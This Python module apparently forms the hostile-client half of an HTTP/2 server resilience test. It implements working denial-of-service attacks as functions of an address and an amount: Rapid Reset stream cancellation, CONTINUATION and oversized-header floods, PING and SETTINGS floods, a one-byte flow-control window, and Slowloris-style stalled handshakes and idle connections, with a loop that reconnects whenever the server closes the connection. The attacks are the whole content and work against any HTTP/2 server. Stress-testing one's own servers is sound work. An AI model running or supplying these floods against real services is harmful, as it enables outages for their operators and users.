"""What hostile clients do to a server, each as a function of an address and an amount.

An attack goes on until its amount is done, connecting anew where the server closes on it, and gives
back the connections that it still holds.
"""
import time

import raw_http2 as h2

# How long an attack tries to get on where the server does not let it.
GIVE_UP_SECONDS = 60


def connect(address):
    """A connection to "HOST:PORT"."""
    host, port = address.rsplit(":", 1)
    return h2.Connection((host, int(port)), timeout=5)


def flood(address, amount, chunks, reads=True):
    """Sends what `chunks()` yields on connection after connection: pairs of bytes and how much of
    the amount they are."""
    deadline = time.monotonic() + GIVE_UP_SECONDS
    held = []
    while amount > 0 and time.monotonic() < deadline:
        try:
            connection = connect(address)
        except OSError:
            continue
        try:
            for data, done in chunks():
                connection.send(data)
                amount -= done
                if reads:
                    connection.throw_away()
                if amount <= 0 or time.monotonic() > deadline:
                    break
            held.append(connection)
        except OSError:
            connection.close()
    return held


def streams_without_acknowledgement(address, amount):
    """Opens streams that never end; a limit that was not acknowledged does not bind the client."""
    def chunks():
        yield h2.PREFACE + h2.settings(), 0
        numbers = h2.streams()
        while True:
            yield b"".join(h2.opening(next(numbers)) for _ in range(500)), 500
    return flood(address, amount, chunks)


def rapid_reset(address, amount):
    """Opens streams and takes them back at once."""
    def chunks():
        yield h2.PREFACE + h2.settings() + h2.SETTINGS_ACK, 0
        numbers = h2.streams()
        while True:
            batch = []
            for _ in range(500):
                number = next(numbers)
                batch += [h2.opening(number), h2.frame(h2.RST_STREAM, 0, number, h2.CANCEL)]
            yield b"".join(batch), 500
    return flood(address, amount, chunks)


def endless_headers(address, amount):
    """Headers that go on and on in CONTINUATION frames of 16 KiB."""
    many = b"".join(h2.header(f"x-{i}", "y" * 100) for i in range(140))
    more = h2.frame(h2.CONTINUATION, 0, 1, many[:16384])

    def chunks():
        yield h2.PREFACE + h2.settings() + h2.SETTINGS_ACK + h2.opening(1, flags=0), 0
        while True:
            yield more * 16, 16
    return flood(address, amount, chunks)


def endless_value(address, amount):
    """One header whose value is said to be 256 MiB, and comes."""
    begin = b"\0" + h2.text("x") + h2.length(256 << 20)

    def chunks():
        yield (h2.PREFACE + h2.settings() + h2.SETTINGS_ACK
               + h2.frame(h2.HEADERS, 0, 1, h2.call_headers(h2.CHECK_ADMISSION) + begin)), 0
        more = h2.frame(h2.CONTINUATION, 0, 1, b"y" * 16384)
        while True:
            yield more * 16, 16
    return flood(address, amount, chunks)


def ping_flood(address, amount):
    def chunks():
        yield h2.PREFACE + h2.settings() + h2.SETTINGS_ACK, 0
        while True:
            yield h2.frame(h2.PING, 0, 0, b"\0" * 8) * 1000, 1000
    return flood(address, amount, chunks, reads=False)


def settings_flood(address, amount):
    """Settings, each of which asks for an acknowledgement that is never read."""
    def chunks():
        yield h2.PREFACE + h2.settings() + h2.SETTINGS_ACK, 0
        while True:
            yield h2.settings(initial_window_size=65535) * 1000, 1000
    return flood(address, amount, chunks, reads=False)


def tiny_window(address, amount):
    """Calls whose answers must travel a byte at a time, and are never read."""
    def chunks():
        yield h2.PREFACE + h2.settings(initial_window_size=1) + h2.SETTINGS_ACK, 0
        numbers = h2.streams()
        for _ in range(20):  # Near the streams that a connection may have.
            batch = []
            for _ in range(50):
                number = next(numbers)
                batch += [h2.opening(number, h2.HEALTH_CHECK),
                          h2.frame(h2.DATA, h2.END_STREAM, number, h2.message())]
            yield b"".join(batch), 50
    return flood(address, amount, chunks, reads=False)


def hold(address, amount, first_bytes):
    """Opens connections, says a little on each, and falls silent."""
    held = []
    for _ in range(amount):
        try:
            connection = connect(address)
            connection.send(first_bytes)
            held.append(connection)
        except OSError:
            continue
    return held


def stalled_handshakes(address, amount):
    """The first half of a ClientHello."""
    return hold(address, amount, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"r" * 20)


def stalled_prefaces(address, amount):
    return hold(address, amount, h2.PREFACE[:10])


def silent_connections(address, amount):
    return hold(address, amount, h2.PREFACE + h2.settings() + h2.SETTINGS_ACK)
